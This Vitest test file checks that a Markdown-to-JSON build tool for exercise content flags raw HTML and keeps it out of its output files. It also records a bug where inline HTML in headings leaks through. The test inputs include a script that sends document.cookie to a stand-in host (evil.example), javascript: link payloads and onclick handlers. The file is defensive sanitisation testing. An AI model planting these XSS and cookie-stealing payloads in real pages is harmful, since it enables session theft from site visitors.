// Raw HTML in content: reported as `raw-html` warnings at its line, never copied into any file
// of the output folder (every output file is searched for `<script`, `onclick`, `javascript:`,
// `<iframe`).
import { afterAll, describe, expect, it } from 'vitest';
import { cleanupAll, VALID_DOCUMENT } from '../helpers/content-dir.js';
import { cliBuild, DANGEROUS, errorsIn, filesMatching, HOSTILE_TIMEOUT, type CliBuild } from '../helpers/hostile-cli.js';

afterAll(cleanupAll);

/** VALID_DOCUMENT is 14 lines; `extra` starts on line 16. */
const withBlock = (extra: string): string => `${VALID_DOCUMENT}\n${extra}\n`;

function expectSafe(run: CliBuild): void {
  expect(run.code).toBe(0);
  expect(errorsIn(run)).toEqual([]);
  expect(run.outputs.size).toBeGreaterThan(0);
  expect(filesMatching(run, DANGEROUS)).toEqual([]);
}

const rawHtmlAt = (run: CliBuild): Array<[number | null, number | null]> =>
  run.diagnostics.filter((d) => d.ruleId === 'raw-html').map((d) => [d.line, d.column]);

describe('raw HTML', () => {
  it('a <script> block is a raw-html warning and reaches no output', async () => {
    const run = await cliBuild({ 'a.md': withBlock('<script>fetch("https://evil.example/?c=" + document.cookie)</script>') });
    expectSafe(run);
    expect(run.diagnostics).toContainEqual(expect.objectContaining({ file: 'a.md', line: 16, column: 1, severity: 'warning', ruleId: 'raw-html', message: expect.stringContaining('<script>') }));
  }, HOSTILE_TIMEOUT);

  it('an onclick= attribute on a block element is a raw-html warning and reaches no output', async () => {
    const run = await cliBuild({ 'a.md': withBlock('<div onclick="steal()">Sit on a chair and relax your shoulders.</div>') });
    expectSafe(run);
    expect(rawHtmlAt(run)).toEqual([[16, 1]]);
  }, HOSTILE_TIMEOUT);

  it('an <iframe> is a raw-html warning and reaches no output', async () => {
    const run = await cliBuild({ 'a.md': withBlock('<iframe src="https://evil.example/" onload="x()"></iframe>') });
    expectSafe(run);
    expect(run.diagnostics).toContainEqual(expect.objectContaining({ line: 16, ruleId: 'raw-html', message: expect.stringContaining('<iframe>') }));
  }, HOSTILE_TIMEOUT);

  it('a markdown link to javascript: keeps its words and drops the URL (no warning: it is markdown)', async () => {
    const run = await cliBuild({ 'a.md': withBlock('Read [the safety advice](javascript:alert(document.domain)) before you start.') });
    expectSafe(run);
    expect(rawHtmlAt(run)).toEqual([]);
    expect(filesMatching(run, /the safety advice before you start/)).toContain('json/exercises.json');
  }, HOSTILE_TIMEOUT);

  it('an <a href="javascript:…"> tag inside a paragraph is reported twice (open, close) and dropped', async () => {
    const run = await cliBuild({ 'a.md': withBlock('Read <a href="javascript:alert(1)" onclick="x()">the advice</a> first.') });
    expectSafe(run);
    expect(rawHtmlAt(run)).toEqual([[16, 6], [16, 60]]);
    expect(filesMatching(run, /Read the advice first/)).toContain('json/exercises.json');
  }, HOSTILE_TIMEOUT);

  it('inline HTML inside an exercise step is reported at its column; the step keeps only its words', async () => {
    const doc = VALID_DOCUMENT.replace('Start on your hands and knees.', 'Start on your <span onclick="x()">hands</span> and knees.<iframe src="javascript:1"></iframe>');
    const run = await cliBuild({ 'a.md': doc });
    expectSafe(run);
    expect(rawHtmlAt(run)).toEqual([[12, 18], [12, 43], [12, 61], [12, 88]]);
    expect(filesMatching(run, /Start on your hands and knees/)).toContain('json/exercises.json');
  }, HOSTILE_TIMEOUT);

  it('an indented <script> (a code block) is not HTML and reaches no output either', async () => {
    const run = await cliBuild({ 'a.md': withBlock('```html\n<script>alert(1)</script>\n<iframe onclick="x"></iframe>\n```') });
    expectSafe(run);
  }, HOSTILE_TIMEOUT);

  it('an ordinary HTML comment (not a directive) is silently ignored and not copied', async () => {
    const run = await cliBuild({ 'a.md': withBlock('<!-- <script>alert(1)</script> onclick= -->') });
    expectSafe(run);
    expect(rawHtmlAt(run)).toEqual([]);
  }, HOSTILE_TIMEOUT);

  it('30 pieces of raw HTML give 20 warnings and one summary, not 30', async () => {
    const run = await cliBuild({ 'a.md': withBlock(Array.from({ length: 30 }, (_, i) => `<p onclick="x${i}()">para ${i}</p>`).join('\n\n')) });
    expectSafe(run);
    const warnings = run.diagnostics.filter((d) => d.ruleId === 'raw-html');
    expect(warnings).toHaveLength(21);
    expect(warnings).toContainEqual(expect.objectContaining({ line: 1, message: '10 more pieces of raw HTML ignored' }));
  }, HOSTILE_TIMEOUT);

  it('an autolink <javascript:…> is markdown, not HTML: kept as plain text, no raw-html warning', async () => {
    // Recorded behaviour, not a leak of markup: the link becomes its visible text.
    const run = await cliBuild({ 'a.md': withBlock('See <javascript:alert(1)> for details.') });
    expect(run.code).toBe(0);
    expect(rawHtmlAt(run)).toEqual([]);
    expect(filesMatching(run, /<script|onclick|<iframe/i)).toEqual([]);
  }, HOSTILE_TIMEOUT);

  // BUG: src/read/sections.ts:38 builds heading texts with mdast-util-to-string's `toString(node)`,
  // whose default `includeHtml: true` keeps inline HTML. `## Stretch <script>x</script> now` gets a
  // raw-html warning, yet "Stretch <script>x</script> now" is written to json/exercises.json and
  // json/exercises.jsonl (`heading`, `source.headings`). Expected: `toString(node, { includeHtml: false })`.
  it('inline HTML in a heading is warned about and never copied into an output', async () => {
    const run = await cliBuild({ 'a.md': withBlock('## Stretch <script>alert(1)</script> <b onclick="x()">now</b>\n\nSit down and relax your back.') });
    expect(rawHtmlAt(run)).toContainEqual([16, 12]);
    expectSafe(run);
  }, HOSTILE_TIMEOUT);
});
